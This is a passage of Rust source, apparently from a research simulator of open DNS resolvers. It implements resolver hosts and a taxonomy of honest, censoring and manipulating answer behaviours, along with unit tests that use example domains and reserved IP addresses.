        let r = d.probe(21, &TcpRequest::BannerProbe).unwrap();
        assert!(r.as_banner().unwrap().contains("ZyRouter"));
        assert!(d.probe(9999, &TcpRequest::BannerProbe).is_none());
    }
}
