//! [`ResolverHost`]: the open DNS resolver as a simulated host.

use crate::behavior::{Answer, QueryCtx, ResolverBehavior};
use crate::cachesim::{SnoopObservation, TldCacheSim};
use crate::device::DeviceProfile;
use crate::software::SoftwareProfile;
use crate::universe::DnsUniverse;
use dnswire::{Message, MessageBuilder, Name, Rcode, RecordClass, RecordType, ResourceRecord};
use geodb::Rir;
use netsim::{Datagram, Host, HostCtx, SimTime, TcpRequest, TcpResponse};
use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;

/// An open recursive DNS resolver (or something that answers like one).
pub struct ResolverHost {
    /// The shared DNS fabric.
    pub universe: Arc<DnsUniverse>,
    /// How it answers A queries.
    pub behavior: ResolverBehavior,
    /// CHAOS fingerprint profile.
    pub software: SoftwareProfile,
    /// TCP-surface fingerprint profile.
    pub device: DeviceProfile,
    /// TLD-cache model for snooping.
    pub cache: TldCacheSim,
    /// Region (drives CDN answers for honest lookups).
    pub region: Rir,
    /// Per-resolver deterministic salt (landing-page choice, CDN edge
    /// rotation, forged-IP generation).
    pub salt: u64,
    /// Host-side processing delay added to every response.
    pub response_delay_ms: u64,
    /// Queries answered (observability for tests).
    pub queries_seen: u64,
    /// Liveness switch shared with the world's lifecycle driver: a
    /// retired (or not-yet-spawned) resolver stays bound to its IP but
    /// answers nothing.
    pub alive: Arc<AtomicBool>,
    /// When set, responses carry this source address instead of the
    /// queried one — a DNS proxy / multi-homed host (Sec. 2.2 found
    /// 630k-750k such responders per weekly scan).
    pub reply_src: Option<Ipv4Addr>,
}

impl ResolverHost {
    /// Assemble a resolver host.
    pub fn new(
        universe: Arc<DnsUniverse>,
        behavior: ResolverBehavior,
        software: SoftwareProfile,
        device: DeviceProfile,
        cache: TldCacheSim,
        region: Rir,
        salt: u64,
    ) -> Self {
        ResolverHost {
            universe,
            behavior,
            software,
            device,
            cache,
            region,
            salt,
            response_delay_ms: 1 + (salt % 7),
            queries_seen: 0,
            alive: Arc::new(AtomicBool::new(true)),
            reply_src: None,
        }
    }

    /// Share a liveness flag with the caller (world lifecycle events).
    pub fn with_alive(mut self, alive: Arc<AtomicBool>) -> Self {
        self.alive = alive;
        self
    }

    fn answer_to_message(&self, query: &Message, answer: &Answer) -> Option<Message> {
        let qname = &query.questions[0].qname;
        let msg = match answer {
            Answer::Ips { ips, ttl } => {
                let mut b = MessageBuilder::response_to(query, Rcode::NoError);
                // A validating resolver sets AD when the zone is signed
                // and its own resolution validated — i.e. the answer is
                // the genuine one. Forged/poisoned answers never carry
                // AD (the Sec. 5 injector-race property).
                let lower = qname.to_ascii_lower();
                if self.universe.is_signed(&lower) {
                    let legit = self.universe.all_legitimate_ips(&lower);
                    if !ips.is_empty() && ips.iter().all(|i| legit.contains(i)) {
                        b = b.authentic_data(true);
                    }
                }
                for ip in ips {
                    b = b.answer_a(qname.clone(), *ttl, *ip);
                }
                b.build()
            }
            Answer::NxDomain => MessageBuilder::response_to(query, Rcode::NxDomain).build(),
            Answer::Empty => MessageBuilder::response_to(query, Rcode::NoError).build(),
            Answer::Refused => MessageBuilder::response_to(query, Rcode::Refused).build(),
            Answer::ServFail => MessageBuilder::response_to(query, Rcode::ServFail).build(),
            Answer::NsOnly { ns_host, ttl } => {
                let ns_name = Name::parse(ns_host).ok()?;
                MessageBuilder::response_to(query, Rcode::NoError)
                    .authority(ResourceRecord::ns(qname.clone(), *ttl, ns_name))
                    .build()
            }
            Answer::Silent => return None,
        };
        Some(msg)
    }

    fn handle_chaos(&self, query: &Message) -> Option<Message> {
        let qname = query.questions[0].qname.to_ascii_lower();
        if qname != "version.bind" && qname != "version.server" {
            return Some(MessageBuilder::response_to(query, Rcode::NotImp).build());
        }
        match self.software.version_bind_answer() {
            Some(text) => Some(
                MessageBuilder::response_to(query, Rcode::NoError)
                    .answer(ResourceRecord::chaos_txt(
                        query.questions[0].qname.clone(),
                        &text,
                    ))
                    .build(),
            ),
            None => match &self.software.chaos {
                crate::software::ChaosPolicy::EmptyAnswer => {
                    Some(MessageBuilder::response_to(query, Rcode::NoError).build())
                }
                crate::software::ChaosPolicy::Error(kind) => {
                    Some(MessageBuilder::response_to(query, kind.rcode()).build())
                }
                // Genuine/Custom are handled by version_bind_answer.
                _ => None,
            },
        }
    }

    /// Handle an NS query for a snooped TLD. `tld_idx` is the TLD's
    /// index in the universe's TLD list.
    fn handle_ns_snoop(&mut self, query: &Message, now: SimTime) -> Option<Message> {
        let qname = query.questions[0].qname.to_ascii_lower();
        let tlds = self.universe.tlds();
        let idx = tlds.iter().position(|t| t.name == qname)?;
        let obs = self
            .cache
            .observe(idx as u32, tlds[idx].ttl, now.millis() / 1000);
        match obs {
            SnoopObservation::Cached { remaining_ttl } => {
                let ns_name = Name::parse(&tlds[idx].ns_host).ok()?;
                Some(
                    MessageBuilder::response_to(query, Rcode::NoError)
                        .answer(ResourceRecord::ns(
                            query.questions[0].qname.clone(),
                            remaining_ttl,
                            ns_name,
                        ))
                        .build(),
                )
            }
            SnoopObservation::Absent => {
                // RD=0 and not cached: nothing to return.
                Some(MessageBuilder::response_to(query, Rcode::NoError).build())
            }
            SnoopObservation::Empty => {
                Some(MessageBuilder::response_to(query, Rcode::NoError).build())
            }
            SnoopObservation::Silent => None,
        }
    }
}

impl Host for ResolverHost {
    fn on_udp(&mut self, ctx: &mut HostCtx<'_>, dgram: &Datagram) {
        if !self.alive.load(Ordering::Relaxed) {
            return;
        }
        let Ok(query) = Message::decode(&dgram.payload) else {
            return;
        };
        if query.header.response || query.questions.is_empty() {
            return;
        }
        self.queries_seen += 1;
        let question = &query.questions[0];

        // CHAOS-class fingerprinting queries.
        if question.qclass == RecordClass::Ch {
            if let Some(resp) = self.handle_chaos(&query) {
                let mut out = dgram.reply_with(resp.encode());
                if self.behavior.rewrites_port() {
                    out.dst_port = out.dst_port.wrapping_add(1);
                }
                ctx.send_udp_delayed(out, self.response_delay_ms);
            }
            return;
        }

        // Cache-snooping NS queries for known TLDs.
        if question.qtype == RecordType::Ns {
            if let Some(resp) = self.handle_ns_snoop(&query, ctx.now) {
                ctx.send_udp_delayed(dgram.reply_with(resp.encode()), self.response_delay_ms);
            }
            return;
        }

        // Everything else: A-record behaviour.
        if question.qtype != RecordType::A {
            let resp = MessageBuilder::response_to(&query, Rcode::NotImp).build();
            ctx.send_udp_delayed(dgram.reply_with(resp.encode()), self.response_delay_ms);
            return;
        }

        let qname_lower = question.qname.to_ascii_lower();
        let qctx = QueryCtx {
            category: self.universe.record(&qname_lower).map(|r| r.category),
            universe: &self.universe,
            qname: qname_lower,
            region: self.region,
            salt: self.salt,
            self_ip: ctx.local_ip,
        };
        let reply = self.behavior.answer(&qctx);
        if let Some(resp) = self.answer_to_message(&query, &reply.primary) {
            let mut out = dgram.reply_with(resp.encode());
            if self.behavior.rewrites_port() {
                out.dst_port = out.dst_port.wrapping_add(1);
            }
            if let Some(src) = self.reply_src {
                out.src_ip = src;
            }
            ctx.send_udp_delayed(out, self.response_delay_ms);
        }
        if let Some((extra_delay, answer)) = &reply.secondary {
            if let Some(resp) = self.answer_to_message(&query, answer) {
                ctx.send_udp_delayed(
                    dgram.reply_with(resp.encode()),
                    self.response_delay_ms + extra_delay,
                );
            }
        }
    }

    fn on_tcp(
        &mut self,
        _now: SimTime,
        _local_ip: Ipv4Addr,
        port: u16,
        req: &TcpRequest,
    ) -> Option<TcpResponse> {
        if !self.alive.load(Ordering::Relaxed) {
            return None;
        }
        self.device.probe(port, req)
    }
}

/// Helper shared by tests and the tokio server: compute the full wire
/// response(s) for a raw query payload, without a network. Returns
/// `(delay_ms, payload)` pairs.
pub fn offline_responses(
    host: &mut ResolverHost,
    dgram: &Datagram,
    now: SimTime,
) -> Vec<(u64, Vec<u8>)> {
    let mut outgoing: Vec<(u64, Datagram)> = Vec::new();
    {
        let mut ctx = HostCtx::new(now, dgram.dst_ip, &mut outgoing);
        host.on_udp(&mut ctx, dgram);
    }
    outgoing
        .into_iter()
        .map(|(d, g)| (d, g.payload.to_vec()))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cachesim::CacheProfile;
    use crate::software::ChaosPolicy;
    use crate::universe::{DomainCategory, DomainKind, DomainRecord, TldInfo};

    fn ip(s: &str) -> Ipv4Addr {
        s.parse().unwrap()
    }

    fn universe() -> Arc<DnsUniverse> {
        let mut u = DnsUniverse::new();
        u.add_domain(DomainRecord {
            name: "paypal.example".into(),
            category: DomainCategory::Banking,
            kind: DomainKind::Fixed(vec![ip("198.51.100.44")]),
            ttl: 300,
            is_mail_host: false,
        });
        u.set_tlds(vec![
            TldInfo {
                name: "com".into(),
                ns_host: "a.nic.com".into(),
                ttl: 3600,
            },
            TldInfo {
                name: "de".into(),
                ns_host: "a.nic.de".into(),
                ttl: 3600,
            },
        ]);
        Arc::new(u)
    }

    fn host(behavior: ResolverBehavior) -> ResolverHost {
        ResolverHost::new(
            universe(),
            behavior,
            SoftwareProfile::new("BIND", "9.8.2", ChaosPolicy::Genuine),
            DeviceProfile::closed(),
            TldCacheSim::new(CacheProfile::InUse {
                refresh_gap_s: 300,
                tld_mask: 0b11,
                phase_s: 0,
            }),
            Rir::Ripe,
            9,
        )
    }

    fn query_dgram(qname: &str, qtype: RecordType) -> Datagram {
        let q = MessageBuilder::query(0x4242, Name::parse(qname).unwrap(), qtype).build();
        Datagram::new(ip("100.0.0.1"), 40000, ip("5.5.5.5"), 53, q.encode())
    }

    fn run(host: &mut ResolverHost, d: &Datagram) -> Vec<Message> {
        offline_responses(host, d, SimTime::from_secs(10))
            .into_iter()
            .map(|(_, payload)| Message::decode(&payload).unwrap())
            .collect()
    }

    #[test]
    fn honest_a_query_round_trip() {
        let mut h = host(ResolverBehavior::Honest);
        let out = run(&mut h, &query_dgram("paypal.example", RecordType::A));
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].header.id, 0x4242);
        assert_eq!(out[0].answer_ips(), vec![ip("198.51.100.44")]);
        assert_eq!(h.queries_seen, 1);
    }

    #[test]
    fn echoes_query_casing_for_0x20() {
        let mut h = host(ResolverBehavior::Honest);
        let out = run(&mut h, &query_dgram("PaYpAl.ExAmPlE", RecordType::A));
        assert_eq!(out[0].questions[0].qname.to_string(), "PaYpAl.ExAmPlE");
    }

    #[test]
    fn chaos_version_bind_genuine() {
        let mut h = host(ResolverBehavior::Honest);
        let q = MessageBuilder::chaos_query(1, Name::parse("version.bind").unwrap()).build();
        let d = Datagram::new(ip("100.0.0.1"), 40000, ip("5.5.5.5"), 53, q.encode());
        let out = run(&mut h, &d);
        assert_eq!(out[0].answers[0].rdata.txt_joined().unwrap(), "BIND 9.8.2");
    }

    #[test]
    fn chaos_error_policy() {
        let mut h = host(ResolverBehavior::Honest);
        h.software = SoftwareProfile::new(
            "BIND",
            "9.9.5",
            ChaosPolicy::Error(crate::software::ChaosErrorKind::Refused),
        );
        let q = MessageBuilder::chaos_query(1, Name::parse("version.bind").unwrap()).build();
        let d = Datagram::new(ip("100.0.0.1"), 40000, ip("5.5.5.5"), 53, q.encode());
        let out = run(&mut h, &d);
        assert_eq!(out[0].header.rcode, Rcode::Refused);
        assert!(out[0].answers.is_empty());
    }

    #[test]
    fn ns_snoop_returns_cached_entry_with_ttl() {
        let mut h = host(ResolverBehavior::Honest);
        let q = MessageBuilder::query(2, Name::parse("com").unwrap(), RecordType::Ns)
            .recursion_desired(false)
            .build();
        let d = Datagram::new(ip("100.0.0.1"), 40000, ip("5.5.5.5"), 53, q.encode());
        let out = run(&mut h, &d);
        assert_eq!(out.len(), 1);
        // Entry cached at t=10s (phase 0): remaining TTL just under 3600.
        let rr = &out[0].answers[0];
        assert_eq!(rr.rtype, RecordType::Ns);
        assert!(rr.ttl <= 3600 && rr.ttl > 3000, "ttl={}", rr.ttl);
    }

    #[test]
    fn ns_query_for_unknown_tld_ignored() {
        let mut h = host(ResolverBehavior::Honest);
        let out = run(&mut h, &query_dgram("xyz", RecordType::Ns));
        assert!(out.is_empty());
    }

    #[test]
    fn refused_behaviour_sets_rcode() {
        let mut h = host(ResolverBehavior::RefusedAll);
        let out = run(&mut h, &query_dgram("paypal.example", RecordType::A));
        assert_eq!(out[0].header.rcode, Rcode::Refused);
    }

    #[test]
    fn dead_behaviour_is_silent() {
        let mut h = host(ResolverBehavior::Dead);
        let out = run(&mut h, &query_dgram("paypal.example", RecordType::A));
        assert!(out.is_empty());
    }

    #[test]
    fn self_ip_returns_local_binding() {
        let mut h = host(ResolverBehavior::SelfIp);
        let out = run(&mut h, &query_dgram("paypal.example", RecordType::A));
        assert_eq!(out[0].answer_ips(), vec![ip("5.5.5.5")]);
    }

    #[test]
    fn port_rewriter_shifts_destination() {
        let mut h = host(ResolverBehavior::PortRewriter {
            inner: Box::new(ResolverBehavior::Honest),
        });
        let d = query_dgram("paypal.example", RecordType::A);
        let out = offline_responses(&mut h, &d, SimTime::ZERO);
        assert_eq!(out.len(), 1);
        // Verify via raw datagram: port must be 40001. offline_responses
        // drops the datagram, so re-drive through a HostCtx here.
        let mut outgoing: Vec<(u64, Datagram)> = Vec::new();
        let mut ctx = HostCtx::new(SimTime::ZERO, d.dst_ip, &mut outgoing);
        h.on_udp(&mut ctx, &d);
        assert_eq!(outgoing[0].1.dst_port, 40001);
    }

    #[test]
    fn malformed_and_response_packets_ignored() {
        let mut h = host(ResolverBehavior::Honest);
        let junk = Datagram::new(ip("1.1.1.1"), 1, ip("5.5.5.5"), 53, &b"\xff\xfe"[..]);
        assert!(run(&mut h, &junk).is_empty());
        // A response packet must not trigger a reply (loop prevention).
        let q =
            MessageBuilder::query(7, Name::parse("paypal.example").unwrap(), RecordType::A).build();
        let r = MessageBuilder::response_to(&q, Rcode::NoError).build();
        let d = Datagram::new(ip("1.1.1.1"), 53, ip("5.5.5.5"), 53, r.encode());
        assert!(run(&mut h, &d).is_empty());
        assert_eq!(h.queries_seen, 0);
    }

    #[test]
    fn non_a_in_query_gets_notimp() {
        let mut h = host(ResolverBehavior::Honest);
        let out = run(&mut h, &query_dgram("paypal.example", RecordType::Mx));
        assert_eq!(out[0].header.rcode, Rcode::NotImp);
    }
}
