//! Resolver answer behaviours — the heart of the "manipulated DNS
//! resolutions" phenomenon (Sections 3–4).

use crate::universe::{DnsUniverse, DomainCategory, Resolution};
use geodb::{Country, Rir};
use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;
use std::net::Ipv4Addr;
use std::sync::Arc;

/// One censorship rule: which domains are redirected, and to which
/// landing-page addresses.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CensorRule {
    /// Categories blocked wholesale (e.g. Adult, Gambling).
    pub categories: Vec<DomainCategory>,
    /// Individually blocked domain names (lower-case).
    pub domains: Vec<String>,
    /// Landing-page IPs (the paper found 299 such IPs across 34
    /// countries); one is picked deterministically per resolver.
    pub landing_ips: Vec<Ipv4Addr>,
}

impl CensorRule {
    fn matches(&self, name: &str, category: Option<DomainCategory>) -> bool {
        if let Some(c) = category {
            if self.categories.contains(&c) {
                return true;
            }
        }
        self.domains.iter().any(|d| d == name)
    }
}

/// A country's DNS censorship policy.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CensorPolicy {
    /// The censoring country.
    pub country: Country,
    /// Its rules.
    pub rules: Vec<CensorRule>,
    /// Fraction of the country's resolvers that comply (Sec. 4.2:
    /// CN 99.7%, MN 78.9%, GR 83.9%, …; TR had 10% non-compliance).
    pub compliance: f64,
}

impl CensorPolicy {
    /// The landing IP for `name` if this policy censors it, selected
    /// deterministically by `salt` (per-resolver).
    pub fn landing_for(
        &self,
        name: &str,
        category: Option<DomainCategory>,
        salt: u64,
    ) -> Option<Ipv4Addr> {
        for rule in &self.rules {
            if rule.matches(name, category) && !rule.landing_ips.is_empty() {
                let idx = (salt as usize) % rule.landing_ips.len();
                return Some(rule.landing_ips[idx]);
            }
        }
        None
    }

    /// All domains/categories this policy touches — used by reports.
    pub fn censored_categories(&self) -> BTreeSet<DomainCategory> {
        self.rules
            .iter()
            .flat_map(|r| r.categories.iter().copied())
            .collect()
    }
}

/// The externally visible answer of a resolver to an A query.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Answer {
    /// A records.
    Ips {
        /// Answer addresses.
        ips: Vec<Ipv4Addr>,
        /// Answer TTL in seconds.
        ttl: u32,
    },
    /// NXDOMAIN.
    NxDomain,
    /// NOERROR with an empty answer section.
    Empty,
    /// REFUSED.
    Refused,
    /// SERVFAIL.
    ServFail,
    /// NOERROR carrying only NS records (recursion effectively denied —
    /// 2.0% of suspicious resolvers, Sec. 4.1).
    NsOnly {
        /// The referral NS host.
        ns_host: String,
        /// Referral TTL.
        ttl: u32,
    },
    /// No response at all.
    Silent,
}

/// A behaviour's reply: the primary answer plus an optional delayed
/// second answer (the GFW double-response signature, Sec. 4.2).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Reply {
    /// The first answer sent.
    pub primary: Answer,
    /// `(extra_delay_ms, answer)` sent after the primary.
    pub secondary: Option<(u64, Answer)>,
}

impl Reply {
    /// A reply with no secondary answer.
    pub fn single(primary: Answer) -> Self {
        Reply {
            primary,
            secondary: None,
        }
    }
}

/// Everything a behaviour may consult when answering.
pub struct QueryCtx<'a> {
    /// The DNS fabric.
    pub universe: &'a DnsUniverse,
    /// Query name, lower-cased, no trailing dot.
    pub qname: String,
    /// The category of the exact domain, if it is a catalog domain.
    pub category: Option<DomainCategory>,
    /// The resolver's region (drives CDN answers).
    pub region: Rir,
    /// Per-resolver deterministic salt.
    pub salt: u64,
    /// The IP the query arrived at (for `SelfIp`).
    pub self_ip: Ipv4Addr,
}

impl QueryCtx<'_> {
    fn honest(&self) -> Answer {
        match self.universe.resolve(&self.qname, self.region, self.salt) {
            Resolution::Ips { ips, ttl } => Answer::Ips { ips, ttl },
            Resolution::NxDomain => Answer::NxDomain,
        }
    }
}

/// Deterministic forged IP for GFW-style random-address censorship.
pub(crate) fn forged_ip(salt: u64, qname: &str) -> Ipv4Addr {
    let mut h = 0xcbf29ce484222325u64 ^ salt;
    for b in qname.bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(0x100000001b3);
    }
    // Map into 1.0.0.0–9.255.255.255: plausible unicast space containing
    // no reserved ranges, so forged answers always look routable.
    let v = 0x0100_0000u32 + (h as u32 % 0x0900_0000);
    Ipv4Addr::from(v)
}

/// The resolver behaviour taxonomy. Every phenomenon in Tables 5 and
/// Sec. 4.3 has a representative variant.
#[derive(Debug, Clone)]
pub enum ResolverBehavior {
    /// Follows the DNS hierarchy faithfully.
    Honest,
    /// Complies with a country censorship policy; everything else honest.
    Censor {
        /// The national policy.
        policy: Arc<CensorPolicy>,
    },
    /// A resolver behind the Great Firewall: its cache is poisoned for
    /// censored domains (random forged IPs). If `escapes_gfw`, its own
    /// answer is the legitimate one (the on-path injector still forges
    /// a first answer — producing the forged-then-legit double response
    /// the paper measured for 2.4% of Chinese resolvers).
    GfwPoisoned {
        /// Censored domain names.
        censored: Arc<BTreeSet<String>>,
        /// Whether this resolver's own answer is the genuine one.
        escapes_gfw: bool,
    },
    /// Redirects NXDOMAIN to a search/ad page (DNS error monetization,
    /// Weaver et al.; Table 5's Search column).
    NxMonetizer {
        /// Monetization target addresses.
        search_ips: Vec<Ipv4Addr>,
    },
    /// Returns one static IP for every domain (4.4% of suspicious
    /// resolvers).
    StaticIp {
        /// The one answer it ever gives.
        ip: Ipv4Addr,
    },
    /// Returns its own address for every domain (8,194 resolvers —
    /// mostly CPE login pages and IP cameras).
    SelfIp,
    /// Redirects every domain to a LAN address (captive-portal style;
    /// up to 65.1% of no-HTTP tuples).
    LanRedirect {
        /// The RFC 1918 target.
        ip: Ipv4Addr,
    },
    /// REFUSED for everything.
    RefusedAll,
    /// SERVFAIL for everything.
    ServFailAll,
    /// NOERROR with empty answers for everything.
    EmptyAll,
    /// Returns only NS records (denies recursion in practice).
    NsOnly {
        /// The referral NS host.
        ns_host: String,
    },
    /// Never answers (scan non-responders; also used after shutdown).
    Dead,
    /// Sends its answers to `dst_port + 1` (the port-rewriting proxies
    /// that motivate the 0x20 redundancy, Sec. 3.3) — wraps another
    /// behaviour.
    PortRewriter {
        /// The behaviour whose answers get misdirected.
        inner: Box<ResolverBehavior>,
    },
    /// Protection service: blocks specific categories with a landing
    /// page, resolves the rest honestly (Table 5 "Blocking").
    Blocker {
        /// Blocked categories.
        categories: Vec<DomainCategory>,
        /// The provider's landing page.
        block_ip: Ipv4Addr,
    },
    /// Redirects ad-provider domains to an injector host (Sec. 4.3).
    AdRedirect {
        /// Redirected ad domains.
        targets: Arc<BTreeSet<String>>,
        /// The manipulation front-end.
        inject_ip: Ipv4Addr,
    },
    /// Redirects every domain to transparent proxy front-ends.
    ProxyAll {
        /// The proxy front-ends.
        proxy_ips: Vec<Ipv4Addr>,
    },
    /// Redirects specific domains to a phishing host.
    Phish {
        /// Impersonated domains.
        targets: Arc<BTreeSet<String>>,
        /// The phishing host.
        phish_ip: Ipv4Addr,
    },
    /// Redirects mail hostnames to eavesdropping mail servers.
    MailIntercept {
        /// Interception mail servers.
        mail_ips: Vec<Ipv4Addr>,
    },
    /// Redirects update/antivirus domains to a fake-update dropper host.
    MalwareRedirect {
        /// Redirected update domains.
        targets: Arc<BTreeSet<String>>,
        /// The fake-update dropper host.
        ip: Ipv4Addr,
    },
    /// Returns parking-provider IPs for specific (re-registered) domains.
    Parking {
        /// Re-registered domains.
        targets: Arc<BTreeSet<String>>,
        /// Parking landers.
        park_ips: Vec<Ipv4Addr>,
    },
    /// Censorship layered over another behaviour: `censor` (which must
    /// be [`ResolverBehavior::Censor`] or [`ResolverBehavior::GfwPoisoned`])
    /// takes precedence for the domains it matches; everything else is
    /// answered by `fallback`. Models e.g. a Chinese NX-monetizer whose
    /// upstream is still poisoned by the Great Firewall.
    Layered {
        /// The censorship component (`Censor` / `GfwPoisoned`).
        censor: Box<ResolverBehavior>,
        /// Behaviour for everything uncensored.
        fallback: Box<ResolverBehavior>,
    },
}

impl ResolverBehavior {
    /// Compute the reply for an A query.
    pub fn answer(&self, ctx: &QueryCtx<'_>) -> Reply {
        match self {
            ResolverBehavior::Honest => Reply::single(ctx.honest()),
            ResolverBehavior::Censor { policy } => {
                match policy.landing_for(&ctx.qname, ctx.category, ctx.salt) {
                    Some(ip) => Reply::single(Answer::Ips {
                        ips: vec![ip],
                        ttl: 300,
                    }),
                    None => Reply::single(ctx.honest()),
                }
            }
            ResolverBehavior::GfwPoisoned {
                censored,
                escapes_gfw,
            } => {
                if censored.contains(&ctx.qname) {
                    if *escapes_gfw {
                        // The forged first answer is injected on-path by
                        // [`crate::gfw::GreatFirewall`]; this resolver's
                        // own answer is the real one, arriving later.
                        let mut reply = Reply::single(ctx.honest());
                        // A touch of host-side delay so the injected
                        // packet always wins the race.
                        reply = Reply {
                            primary: reply.primary,
                            secondary: None,
                        };
                        reply
                    } else {
                        Reply::single(Answer::Ips {
                            ips: vec![forged_ip(ctx.salt, &ctx.qname)],
                            ttl: 60,
                        })
                    }
                } else {
                    Reply::single(ctx.honest())
                }
            }
            ResolverBehavior::NxMonetizer { search_ips } => match ctx.honest() {
                Answer::NxDomain => Reply::single(Answer::Ips {
                    ips: search_ips.clone(),
                    ttl: 300,
                }),
                other => Reply::single(other),
            },
            ResolverBehavior::StaticIp { ip } => Reply::single(Answer::Ips {
                ips: vec![*ip],
                ttl: 3600,
            }),
            ResolverBehavior::SelfIp => Reply::single(Answer::Ips {
                ips: vec![ctx.self_ip],
                ttl: 3600,
            }),
            ResolverBehavior::LanRedirect { ip } => Reply::single(Answer::Ips {
                ips: vec![*ip],
                ttl: 60,
            }),
            ResolverBehavior::RefusedAll => Reply::single(Answer::Refused),
            ResolverBehavior::ServFailAll => Reply::single(Answer::ServFail),
            ResolverBehavior::EmptyAll => Reply::single(Answer::Empty),
            ResolverBehavior::NsOnly { ns_host } => Reply::single(Answer::NsOnly {
                ns_host: ns_host.clone(),
                ttl: 3600,
            }),
            ResolverBehavior::Dead => Reply::single(Answer::Silent),
            ResolverBehavior::PortRewriter { inner } => inner.answer(ctx),
            ResolverBehavior::Blocker {
                categories,
                block_ip,
            } => {
                if ctx
                    .category
                    .map(|c| categories.contains(&c))
                    .unwrap_or(false)
                {
                    Reply::single(Answer::Ips {
                        ips: vec![*block_ip],
                        ttl: 300,
                    })
                } else {
                    Reply::single(ctx.honest())
                }
            }
            ResolverBehavior::AdRedirect { targets, inject_ip } => {
                if targets.contains(&ctx.qname) {
                    Reply::single(Answer::Ips {
                        ips: vec![*inject_ip],
                        ttl: 300,
                    })
                } else {
                    Reply::single(ctx.honest())
                }
            }
            ResolverBehavior::ProxyAll { proxy_ips } => {
                let idx = (ctx.salt as usize) % proxy_ips.len().max(1);
                match ctx.honest() {
                    // Proxy even NX domains: the proxy serves an error.
                    _ if proxy_ips.is_empty() => Reply::single(Answer::Empty),
                    _ => Reply::single(Answer::Ips {
                        ips: vec![proxy_ips[idx]],
                        ttl: 120,
                    }),
                }
            }
            ResolverBehavior::Phish { targets, phish_ip } => {
                if targets.contains(&ctx.qname) {
                    Reply::single(Answer::Ips {
                        ips: vec![*phish_ip],
                        ttl: 300,
                    })
                } else {
                    Reply::single(ctx.honest())
                }
            }
            ResolverBehavior::MailIntercept { mail_ips } => {
                let is_mail = ctx
                    .universe
                    .record(&ctx.qname)
                    .map(|r| r.is_mail_host)
                    .unwrap_or(false);
                if is_mail && !mail_ips.is_empty() {
                    let idx = (ctx.salt as usize) % mail_ips.len();
                    Reply::single(Answer::Ips {
                        ips: vec![mail_ips[idx]],
                        ttl: 300,
                    })
                } else {
                    Reply::single(ctx.honest())
                }
            }
            ResolverBehavior::MalwareRedirect { targets, ip } => {
                if targets.contains(&ctx.qname) {
                    Reply::single(Answer::Ips {
                        ips: vec![*ip],
                        ttl: 300,
                    })
                } else {
                    Reply::single(ctx.honest())
                }
            }
            ResolverBehavior::Parking { targets, park_ips } => {
                if targets.contains(&ctx.qname) && !park_ips.is_empty() {
                    let idx = (ctx.salt as usize) % park_ips.len();
                    Reply::single(Answer::Ips {
                        ips: vec![park_ips[idx]],
                        ttl: 600,
                    })
                } else {
                    Reply::single(ctx.honest())
                }
            }
            ResolverBehavior::Layered { censor, fallback } => {
                if censor.censors(ctx) {
                    censor.answer(ctx)
                } else {
                    fallback.answer(ctx)
                }
            }
        }
    }

    /// Whether this behaviour's censorship component matches the queried
    /// domain (only meaningful for `Censor` / `GfwPoisoned`).
    pub fn censors(&self, ctx: &QueryCtx<'_>) -> bool {
        match self {
            ResolverBehavior::Censor { policy } => policy
                .landing_for(&ctx.qname, ctx.category, ctx.salt)
                .is_some(),
            ResolverBehavior::GfwPoisoned { censored, .. } => censored.contains(&ctx.qname),
            ResolverBehavior::Layered { censor, .. } => censor.censors(ctx),
            _ => false,
        }
    }

    /// Whether responses should be sent to `dst_port + 1` instead of the
    /// query's source port.
    pub fn rewrites_port(&self) -> bool {
        matches!(self, ResolverBehavior::PortRewriter { .. })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::universe::{DomainKind, DomainRecord};

    fn ip(s: &str) -> Ipv4Addr {
        s.parse().unwrap()
    }

    fn universe() -> DnsUniverse {
        let mut u = DnsUniverse::new();
        u.add_domain(DomainRecord {
            name: "facebook.example".into(),
            category: DomainCategory::Alexa,
            kind: DomainKind::Fixed(vec![ip("198.51.100.7")]),
            ttl: 300,
            is_mail_host: false,
        });
        u.add_domain(DomainRecord {
            name: "smtp.gmail.example".into(),
            category: DomainCategory::Mx,
            kind: DomainKind::Fixed(vec![ip("198.51.100.25")]),
            ttl: 300,
            is_mail_host: true,
        });
        u.add_domain(DomainRecord {
            name: "youporn.example".into(),
            category: DomainCategory::Adult,
            kind: DomainKind::Fixed(vec![ip("198.51.100.99")]),
            ttl: 300,
            is_mail_host: false,
        });
        u
    }

    fn ctx<'a>(u: &'a DnsUniverse, qname: &str) -> QueryCtx<'a> {
        QueryCtx {
            universe: u,
            qname: qname.to_string(),
            category: u.record(qname).map(|r| r.category),
            region: Rir::Ripe,
            salt: 7,
            self_ip: ip("5.5.5.5"),
        }
    }

    #[test]
    fn honest_resolves_and_nx() {
        let u = universe();
        let b = ResolverBehavior::Honest;
        assert_eq!(
            b.answer(&ctx(&u, "facebook.example")).primary,
            Answer::Ips {
                ips: vec![ip("198.51.100.7")],
                ttl: 300
            }
        );
        assert_eq!(b.answer(&ctx(&u, "nope.example")).primary, Answer::NxDomain);
    }

    #[test]
    fn censor_matches_category_and_domain() {
        let u = universe();
        let policy = Arc::new(CensorPolicy {
            country: Country::new("TR"),
            rules: vec![CensorRule {
                categories: vec![DomainCategory::Adult],
                domains: vec!["facebook.example".into()],
                landing_ips: vec![ip("203.0.113.80"), ip("203.0.113.81")],
            }],
            compliance: 0.9,
        });
        let b = ResolverBehavior::Censor { policy };
        let a1 = b.answer(&ctx(&u, "youporn.example")).primary;
        let a2 = b.answer(&ctx(&u, "facebook.example")).primary;
        for a in [&a1, &a2] {
            let Answer::Ips { ips, .. } = a else { panic!() };
            assert!(u32::from(ips[0]) >= u32::from(ip("203.0.113.80")));
        }
        // Uncensored domain resolves honestly.
        assert_eq!(
            b.answer(&ctx(&u, "smtp.gmail.example")).primary,
            Answer::Ips {
                ips: vec![ip("198.51.100.25")],
                ttl: 300
            }
        );
    }

    #[test]
    fn gfw_poisoned_forges_censored_only() {
        let u = universe();
        let censored: Arc<BTreeSet<String>> =
